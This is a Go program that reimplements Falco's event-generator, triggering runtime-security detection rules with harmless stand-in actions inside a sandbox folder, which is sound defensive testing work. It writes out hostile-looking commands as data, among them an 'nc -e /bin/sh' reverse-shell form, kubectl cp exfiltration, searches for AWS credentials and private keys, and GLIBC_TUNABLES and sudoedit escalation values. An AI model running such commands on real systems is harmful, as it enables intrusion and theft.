// generator makes the actions of Falco's public event-generator again, in a static program of our own.
//
// Usage: generator list | generator ROOT [ACTION...]
//
// Without an action, every one. One line tells each action's result. README.md beside this folder says what each
// does in the original.
//
// Every path lies below ROOT, an existing folder; rules that name /etc or /bin hold where ROOT is `/`, in a file
// system of its own. Every program that an action executes, such as nmap, is a link to this one, below
// ROOT/tools, which does nothing; so no tool has to be there, and each is static too. With MARKS in the environment
// a folder ROOT/marks/ACTION is made before each action, and each is followed by a pause. Connections leave the
// machine nowhere: without a network of its own, an action that needs another address than loopback is skipped.
package main

import (
	"errors"
	"fmt"
	"net"
	"os"
	"os/exec"
	"path/filepath"
	"runtime"
	"sort"
	"strings"
	"syscall"
	"time"
	"unsafe"
)

const (
	sysMemfdCreate = 319
	sysUserfaultfd = 323
	daemon         = 1
	// The status of a role that is skipped.
	skippedStatus = 77
)

var errSkipped = errors.New("skipped: it needs a network of its own")

var root string

// at is the absolute path, below ROOT.
func at(path string) string { return filepath.Join(root, path) }

// write makes a file, and the folders above it; a file that is there already stays as it is, and is an error.
func write(path, text string, mode os.FileMode) error {
	if err := os.MkdirAll(filepath.Dir(at(path)), 0o755); err != nil {
		return err
	}
	file, err := os.OpenFile(at(path), os.O_WRONLY|os.O_CREATE|os.O_TRUNC|os.O_EXCL, mode)
	if err != nil {
		return err
	}
	defer file.Close()
	_, err = file.WriteString(text)
	return err
}

// touch opens a file for writing, and makes it if it is not there.
func touch(path string) error {
	if err := os.MkdirAll(filepath.Dir(at(path)), 0o755); err != nil {
		return err
	}
	file, err := os.OpenFile(at(path), os.O_WRONLY|os.O_CREATE, 0o600)
	if err == nil {
		file.Close()
	}
	return err
}

// left removes what an action made.
func left(path string, err error) error {
	os.RemoveAll(at(path))
	return err
}

// tool is this program under another name.
func tool(name string) (string, error) {
	self, err := os.Readlink("/proc/self/exe")
	if err != nil {
		return "", err
	}
	path := at("tools/" + name)
	if err := os.MkdirAll(filepath.Dir(path), 0o755); err != nil {
		return "", err
	}
	os.Remove(path)
	return path, os.Symlink(self, path)
}

// as runs a role of this program under another name.
func as(name, role string, arguments ...string) error {
	return command(name, role, arguments...)(nil)
}

// command is what `as` runs, with a change.
func command(name, role string, arguments ...string) func(change func(*exec.Cmd)) error {
	return func(change func(*exec.Cmd)) error {
		path, err := tool(name)
		if err != nil {
			return err
		}
		command := exec.Command(path, arguments...)
		command.Env = append(os.Environ(), "ROLE="+role, "ROOT="+root)
		if change != nil {
			change(command)
		}
		err = command.Run()
		if ended, is := err.(*exec.ExitError); is && ended.ExitCode() == skippedStatus {
			return errSkipped
		}
		return err
	}
}

// run executes a tool that does nothing.
func run(name string, arguments ...string) error { return as(name, "nothing", arguments...) }

func runAs(uid uint32, name string, arguments ...string) error {
	return asUser(uid, name, "nothing", arguments...)
}

func asUser(uid uint32, name, role string, arguments ...string) error {
	return command(name, role, arguments...)(func(command *exec.Cmd) {
		command.SysProcAttr = &syscall.SysProcAttr{Credential: &syscall.Credential{Uid: uid, Gid: uid}}
	})
}

// isAlone says whether no packet can leave this network.
func isAlone() bool {
	interfaces, err := net.Interfaces()
	if err != nil {
		return false
	}
	for _, one := range interfaces {
		if one.Flags&net.FlagLoopback == 0 && one.Flags&net.FlagUp != 0 {
			return false
		}
	}
	return true
}

// dial connects; that no answer comes does not matter.
func dial(network, address string) error {
	host, _, err := net.SplitHostPort(address)
	if err != nil {
		return err
	}
	if !net.ParseIP(host).IsLoopback() && !isAlone() {
		return errSkipped
	}
	connection, err := net.DialTimeout(network, address, 50*time.Millisecond)
	if err == nil {
		connection.Close()
	}
	return nil
}

func setuid(uid uintptr) error {
	if _, _, number := syscall.RawSyscall(syscall.SYS_SETUID, uid, 0, 0); number != 0 {
		return number
	}
	return nil
}

func read(path string) error {
	file, err := os.Open(path)
	if err == nil {
		file.Close()
	}
	return err
}

// roles are what the program does under another name.
var roles = map[string]func() error{
	"nothing": func() error { return nil },
	"shell":   func() error { return run("sh", "-c", "ls > /dev/null") },
	"ls":      func() error { return run("ls") },
	"shadow":  func() error { return read(at("etc/shadow")) },
	"shadow-later": func() error {
		time.Sleep(5100 * time.Millisecond)
		return read(at("etc/shadow"))
	},
	"listen": func() error {
		if !isAlone() {
			return errSkipped
		}
		listener, err := net.Listen("tcp4", "10.2.3.4:0")
		if err == nil {
			listener.Close()
		}
		return err
	},
	"connect": func() error { return dial("tcp4", "127.0.0.1:8000") },
	"ssh":     func() error { return dial("tcp4", "203.0.113.7:443") },
	"unshare": func() error {
		// In vain: this process has threads.
		syscall.RawSyscall(syscall.SYS_UNSHARE, syscall.CLONE_NEWNS|syscall.CLONE_NEWUSER, 0, 0)
		return nil
	},
	"metadata": func() error { return dial("tcp4", "169.254.169.254:80") },
	// Long enough for a look at the living program.
	"linger": func() error {
		time.Sleep(200 * time.Millisecond)
		return nil
	},
	"udp": func() error { return dial("udp4", "10.2.3.4:8192") },
	"class": func() error {
		server, err := net.ListenUDP("udp4", &net.UDPAddr{IP: net.IPv4(127, 0, 0, 1)})
		if err != nil {
			return err
		}
		defer server.Close()
		client, err := net.DialUDP("udp4", nil, server.LocalAddr().(*net.UDPAddr))
		if err != nil {
			return err
		}
		defer client.Close()
		if _, err := client.Write([]byte{0xca, 0xfe, 0xba, 0xbe}); err != nil {
			return err
		}
		server.SetReadDeadline(time.Now().Add(5 * time.Second))
		_, _, err = server.ReadFromUDP(make([]byte, 16))
		return err
	},
	"setuid": func() error {
		runtime.LockOSThread()
		if err := setuid(daemon); err != nil {
			return err
		}
		// In vain, as it must be.
		setuid(0)
		return nil
	},
	"userfaultfd": func() error {
		runtime.LockOSThread()
		if err := setuid(daemon); err != nil {
			return err
		}
		if fd, _, number := syscall.Syscall(sysUserfaultfd, 0, 0, 0); number == 0 {
			syscall.Close(int(fd))
		}
		return nil
	},
}

// traced starts a child that the action does something to, and ends it.
func traced(attributes *syscall.SysProcAttr, act func(pid int) error) error {
	runtime.LockOSThread()
	defer runtime.UnlockOSThread()
	path, err := tool("sleep")
	if err != nil {
		return err
	}
	child := exec.Command(path, "3600")
	child.Env = append(os.Environ(), "ROLE=wait")
	child.SysProcAttr = attributes
	if err := child.Start(); err != nil {
		return err
	}
	defer child.Wait()
	defer child.Process.Kill()
	return act(child.Process.Pid)
}

func memfd() error {
	name := [...]byte{'p', 'r', 'o', 'g', 'r', 'a', 'm', 0}
	fd, _, number := syscall.Syscall(sysMemfdCreate, uintptr(unsafe.Pointer(&name[0])), 0, 0)
	if number != 0 {
		return number
	}
	file := os.NewFile(fd, "program")
	defer file.Close()
	self, err := os.ReadFile("/proc/self/exe")
	if err != nil {
		return err
	}
	if _, err := file.Write(self); err != nil {
		return err
	}
	child := exec.Command(fmt.Sprintf("/proc/%d/fd/%d", os.Getpid(), fd))
	child.Env = append(os.Environ(), "ROLE=nothing")
	// A file that is open for writing is not executed; and this process has it open.
	err = child.Run()
	if errors.Is(err, syscall.ETXTBSY) {
		return nil
	}
	return err
}

func redirect() error {
	listener, err := net.Listen("tcp4", "127.0.0.1:0")
	if err != nil {
		return err
	}
	defer listener.Close()
	client, err := net.Dial("tcp4", listener.Addr().String())
	if err != nil {
		return err
	}
	defer client.Close()
	server, err := listener.Accept()
	if err != nil {
		return err
	}
	defer server.Close()
	file, err := server.(*net.TCPConn).File()
	if err != nil {
		return err
	}
	defer file.Close()
	kept, err := syscall.Dup(1)
	if err != nil {
		return err
	}
	defer syscall.Close(kept)
	if err := syscall.Dup3(int(file.Fd()), 1, 0); err != nil {
		return err
	}
	return syscall.Dup3(kept, 1, 0)
}

func cloned(name string, arguments ...string) error {
	err := command(name, "linger", arguments...)(func(command *exec.Cmd) {
		command.SysProcAttr = &syscall.SysProcAttr{Cloneflags: syscall.CLONE_NEWNS | syscall.CLONE_NEWUSER}
	})
	if errors.Is(err, syscall.EPERM) || errors.Is(err, syscall.EACCES) {
		return nil
	}
	return err
}

func packet() error {
	const everything = 0x0300 // ETH_P_ALL, in the order of the network
	fd, err := syscall.Socket(syscall.AF_PACKET, syscall.SOCK_RAW, everything)
	if err == nil {
		syscall.Close(fd)
	}
	if errors.Is(err, syscall.EPERM) {
		return nil
	}
	return err
}

func module() error {
	// No image: the kernel refuses it, whoever asks.
	nothing := [1]byte{}
	syscall.Syscall(syscall.SYS_INIT_MODULE, 0, 0, uintptr(unsafe.Pointer(&nothing[0])))
	return run("insmod", at("module.ko"))
}

func moved(from, to string) error {
	if err := os.Rename(at(from), at(to)); err != nil {
		return err
	}
	return os.Rename(at(to), at(from))
}

func linked(link func(string, string) error, target, name string) error {
	os.Remove(at(name))
	return left(name, link(target, at(name)))
}

// shadow makes the sensitive file, where ROOT has none.
func shadow() error {
	if _, err := os.Stat(at("etc/shadow")); err == nil {
		return nil
	}
	return write("etc/shadow", "root:*:1:0:99999:7:::\n", 0o640)
}

// actions by the original's names.
var actions = map[string]func() error{
	"AddingSshKeysToAuthorizedKeys": func() error {
		return left("home/made", write("home/made/.ssh/authorized_keys", "ssh-rsa none\n", 0o755))
	},
	"ChangeNamespacePrivilegesViaUnshare": func() error { return asUser(daemon, "unshare", "unshare") },
	"ChangeThreadNamespace": func() error {
		syscall.RawSyscall(308, 0, 0, 0) // setns: in vain
		return nil
	},
	"ClearLogActivities":                             func() error { return left("logs", write("logs/syslog", "", 0o644)) },
	"ContactCloudMetadataServiceFromContainer":       func() error { return dial("tcp4", "169.254.169.254:80") },
	"ContactEC2InstanceMetadataServiceFromContainer": func() error { return as("nc", "metadata", "169.254.169.254", "80") },
	"ContainerDriftDetectedChmod": func() error {
		if err := write("made", "", 0o644); err != nil {
			return err
		}
		return left("made", os.Chmod(at("made"), 0o755))
	},
	"ContainerDriftDetectedOpenCreate":   func() error { return left("tmp/made", write("tmp/made", "", 0o755)) },
	"CreateFilesBelowDev":                func() error { return left("dev/made", write("dev/made", "", 0o644)) },
	"CreateHardlinkOverSensitiveFiles":   func() error { return linked(os.Link, at("etc/shadow"), "shadow_link") },
	"CreateHiddenFilesOrDirectories":     func() error { return left(".made", os.Mkdir(at(".made"), 0o755)) },
	"CreateSymlinkOverSensitiveFiles":    func() error { return linked(os.Symlink, at("etc"), "etc_link") },
	"DbProgramSpawnedProcess":            func() error { return as("mysqld", "ls") },
	"DecodingPayloadInContainer":         func() error { return run("base64", "-d") },
	"LaunchDebugfsInPrivilegedContainer": func() error { return cloned("debugfs", "/dev/sda1") },
	"DeleteOrRenameShellHistory": func() error {
		if err := write("home/ash_history", "", 0o600); err != nil {
			return err
		}
		return os.Remove(at("home/ash_history"))
	},
	"DetectCryptoMinersUsingTheStratumProtocol": func() error {
		return run("ls", "-o stratum+tcp", "-u user", "-p pass")
	},
	"DetectOutboundConnectionsToCommonMinerPoolPorts": func() error { return dial("tcp4", "10.2.3.4:3333") },
	"DetectReleaseAgentFileContainerEscapes": func() error {
		return left("release_agent", write("release_agent", "hello\n", 0o644))
	},
	"DirectoryTraversalMonitoredFileRead": func() error {
		return read(root + "/etc/../etc/../etc/shadow")
	},
	"DisallowedSSHConnectionNonStandardPort": func() error { return as("ssh", "ssh", "user@example.com", "-p", "443") },
	"DropAndExecuteNewBinaryInContainer": func() error {
		self, err := os.ReadFile("/proc/self/exe")
		if err != nil {
			return err
		}
		if err := write("bin/dropped", string(self), 0o755); err != nil {
			return err
		}
		child := exec.Command(at("bin/dropped"))
		child.Env = append(os.Environ(), "ROLE=linger")
		return left("bin/dropped", child.Run())
	},
	"ExecutionFromDevShm": func() error {
		if err := write("dev/shm/script.sh", "#!/bin/sh\ntrue\n", 0o755); err != nil {
			return err
		}
		return left("dev/shm/script.sh", exec.Command("sh", "-c", at("dev/shm/script.sh")).Run())
	},
	"ExfiltratingArtifactsViaKubernetesControlPlane": func() error {
		return run("kubectl", "cp", "pod:/tmp/file", at("file"))
	},
	"FilelessExecutionViaMemfdCreate": memfd,
	"FindAwsCredentials": func() error {
		return run("find", at("tmp"), "-maxdepth", "1", "-iname", ".aws/credentials")
	},
	"InterpretedProcsInboundNetworkActivity":      func() error { return as("lua", "listen") },
	"InterpretedProcsOutboundNetworkActivity":     func() error { return as("python3", "connect") },
	"JavaProcessClassFileDownload":                func() error { return as("java", "class") },
	"KubernetesClientToolLaunchedInContainer":     func() error { return run("kubectl") },
	"LaunchIngressRemoteFileCopyToolsInContainer": func() error { return run("wget", "-V") },
	"LaunchPackageManagementProcessInContainer":   func() error { return run("apt-get") },
	"LaunchRemoteFileCopyToolsInContainer":        func() error { return run("scp") },
	"LaunchSuspiciousNetworkToolInContainer":      func() error { return run("nmap", "-sn", "192.168.1.0/24") },
	"LaunchSuspiciousNetworkToolOnHost":           func() error { return run("nmap", "-sn", "192.168.1.0/24") },
	"LinuxKernelModuleInjection":                  module,
	"MkdirBinaryDirs":                             func() error { return left("bin/made", os.Mkdir(at("bin/made"), 0o755)) },
	"ModifyBinaryDirs":                            func() error { return moved("bin/true", "bin/true.moved") },
	"ModifyContainerEntrypoint": func() error {
		file, err := os.OpenFile("/proc/self/fd/1", os.O_WRONLY, 0)
		if err == nil {
			file.Close()
		}
		return err
	},
	"ModifyShellConfigurationFile": func() error {
		return left("home/.bashrc", write("home/.bashrc", "# written\n", 0o644))
	},
	"MountLaunchedInPrivilegedContainer":   func() error { return cloned("mount", "-o") },
	"NetcatRemoteCodeExecutionInContainer": func() error { return run("nc", "-e", "/bin/sh", "example.com", "22") },
	"NonSudoSetuid":                        func() error { return as("child", "setuid") },
	"PacketSocketCreatedInContainer":       packet,
	"PolkitLocalPrivilegeEscalation":       func() error { return runAs(daemon, "pkexec") },
	"PotentialLocalPrivilegeEscalationViaEnvironmentVariablesMisuse": func() error {
		return command("su", "nothing")(func(command *exec.Cmd) {
			command.Env = append(command.Env, "GLIBC_TUNABLES=glibc.tune.hwcaps=-WAITED")
		})
	},
	"ProgramRunWithDisallowedHttpProxyEnv": func() error {
		return command("curl", "nothing", "http://example.com")(func(command *exec.Cmd) {
			command.Env = append(command.Env, "HTTP_PROXY=http://my.http.proxy.example")
		})
	},
	"PtraceAntiDebugAttempt": func() error {
		return traced(&syscall.SysProcAttr{Ptrace: true}, func(int) error { return nil })
	},
	"PtraceAttachedToProcess": func() error { return traced(nil, syscall.PtraceAttach) },
	"ReadEnvironmentVariableFromProcFiles": func() error {
		return exec.Command("cat", "/proc/self/environ").Run()
	},
	"ReadSensitiveFileTrustedAfterStartup": func() error { return as("httpd", "shadow-later") },
	"ReadSensitiveFileUntrusted":           func() error { return read(at("etc/shadow")) },
	"ReadShellConfigurationFile": func() error {
		if err := write("home/.bashrc", "", 0o644); err != nil {
			return err
		}
		return left("home/.bashrc", read(at("home/.bashrc")))
	},
	"ReadSshInformation": func() error {
		if err := touch("root/.ssh/known_hosts"); err != nil {
			return err
		}
		return read(at("root/.ssh/known_hosts"))
	},
	"RedirectStdoutStdinToNetworkConnection": redirect,
	"RemoveBulkDataFromDisk":                 func() error { return run("shred", "-u", at("tmp/file")) },
	"RunShellUntrusted":                      func() error { return as("httpd", "shell") },
	"ScheduleCronJobs":                       func() error { return run("crontab", "-l") },
	"SearchPrivateKeysOrPasswords": func() error {
		return run("find", at("tmp"), "-maxdepth", "1", "-iname", "id_rsa")
	},
	"SetSetuidOrSetgidBit": func() error {
		if err := write("tmp/made", "", 0o755); err != nil {
			return err
		}
		return left("tmp/made", os.Chmod(at("tmp/made"), 0o755|os.ModeSetuid))
	},
	"SudoPotentialPrivilegeEscalation": func() error { return runAs(daemon, "sudoedit", "-u", "daemon", "-s", "ls\\") },
	"SystemProcsNetworkActivity":       func() error { return as("sha1sum", "udp") },
	"SystemUserInteractive":            func() error { return runAs(daemon, "login") },
	"UnexpectedK8sNodePortConnection":  func() error { return dial("udp4", "10.2.3.4:31000") },
	"UnexpectedUDPTraffic":             func() error { return dial("udp4", "127.0.0.1:34567") },
	"UnprivilegedDelegationOfPageFaultsHandling": func() error {
		return as("child", "userfaultfd")
	},
	"UpdatePackageRepository": func() error { return touch("etc/apt/sources.list") },
	"UserMgmtBinaries":        func() error { return as("vipw", "ls") },
	"WriteBelowBinaryDir":     func() error { return left("bin/made", write("bin/made", "", 0o755)) },
	"WriteBelowEtc":           func() error { return left("etc/made", write("etc/made", "", 0o644)) },
	"WriteBelowMonitoredDir":  func() error { return left("lib/made", write("lib/made", "", 0o644)) },
	"WriteBelowRoot":          func() error { return left("root/made", write("root/made", "", 0o644)) },
	"WriteBelowRpmDatabase":   func() error { return left("var/lib/rpm/made", write("var/lib/rpm/made", "", 0o755)) },
}

func names() []string {
	names := make([]string, 0, len(actions))
	for name := range actions {
		names = append(names, name)
	}
	sort.Strings(names)
	return names
}

func main() {
	if role, is := os.LookupEnv("ROLE"); is {
		root = os.Getenv("ROOT")
		if role == "wait" {
			time.Sleep(time.Hour)
		}
		act := roles[role]
		if act == nil {
			os.Exit(1)
		}
		switch err := act(); {
		case errors.Is(err, errSkipped):
			os.Exit(skippedStatus)
		case err != nil:
			os.Exit(1)
		}
		return
	}
	if len(os.Args) == 2 && os.Args[1] == "list" {
		fmt.Println(strings.Join(names(), "\n"))
		return
	}
	if len(os.Args) < 2 {
		fmt.Fprintln(os.Stderr, "usage: generator list | generator ROOT [ACTION...]")
		os.Exit(2)
	}
	root = os.Args[1]
	chosen := os.Args[2:]
	if len(chosen) == 0 {
		chosen = names()
	}
	for _, folder := range []string{"bin", "etc", "tmp", "home"} {
		if err := os.MkdirAll(at(folder), 0o755); err != nil {
			fmt.Fprintln(os.Stderr, err)
			os.Exit(1)
		}
	}
	if _, err := os.Stat(at("bin/true")); err != nil {
		write("bin/true", "", 0o755)
	}
	if err := shadow(); err != nil {
		fmt.Fprintln(os.Stderr, err)
		os.Exit(1)
	}
	failed := false
	for _, name := range chosen {
		act := actions[name]
		if act == nil {
			fmt.Fprintf(os.Stderr, "no action %s; `generator list` names them\n", name)
			os.Exit(2)
		}
		if _, is := os.LookupEnv("MARKS"); is {
			// Some starts of programs that have ended are told of a moment later.
			time.Sleep(60 * time.Millisecond)
			os.MkdirAll(at("marks"), 0o755)
			os.Mkdir(at("marks/"+name), 0o755)
		}
		switch err := act(); {
		case err == nil:
			fmt.Println(name + ": ok")
		case errors.Is(err, errSkipped):
			fmt.Println(name + ": " + err.Error())
		default:
			failed = true
			fmt.Println(name + ": " + err.Error())
		}
	}
	os.RemoveAll(at("tools"))
	os.RemoveAll(at("marks"))
	if failed {
		os.Exit(1)
	}
}
